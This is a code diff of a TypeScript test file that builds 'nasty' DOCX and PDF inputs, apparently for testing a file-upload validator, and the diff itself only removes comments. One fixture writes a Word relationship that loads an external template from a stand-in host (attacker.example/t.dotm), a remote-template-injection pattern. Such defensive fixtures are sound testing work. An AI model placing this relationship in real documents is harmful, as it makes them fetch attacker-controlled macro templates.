@@ -6,7 +6,6 @@ import { makeDocx, makeZip } from './make-zip.ts';
 
 interface NastyFile {
   bytes: () => Buffer | Promise<Buffer>;
-  /** The error code `FILE_...`, or the file's type and properties. */
   expected: string | { type: string; pages?: number; pixels?: { width: number; height: number } };
 }
 
@@ -56,7 +55,6 @@ const relationship = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
 const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
-/** For example, an external template. */
 const related = (attributes: string) => () =>
   relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
 const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
@@ -251,13 +249,9 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
     bytes: () =>
       makePdf({
         objects: [
-          // An object stream in pdfTeX's format.
           stream('\n/Type /ObjStm\n/N 1\n/First 8\n/Filter /FlateDecode\n', deflateSync('20000 0 << /A 1 >>')),
-          // An object stream in Acrobat's format. It extends another object stream.
           stream('/Extends 10000 0 R/Filter[/FlateDecode]/First 8/N 1/Type/ObjStm', deflateSync('20001 0 (/A)')),
-          // An uncompressed object stream, as PDF inspection tools write it.
           stream('/Type /ObjStm /N 1 /First 8 /DecodeParms null', Buffer.from('20002 0 [ /A ]')),
-          // Objects that use the same keywords, such as bookmarks, resources and annotations.
           '<< /Type /Outlines /First 20000 0 R /Last 20000 0 R /Title (\\( a stream\n) % obj <<\n >>',
           stream('/Type /XObject /Resources << /Font << /F 20000 0 R /First 20000 0 R >> >>', Buffer.from('q Q')),
           stream('/N 3 /Alternate /DeviceRGB /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('GhQ~>')),
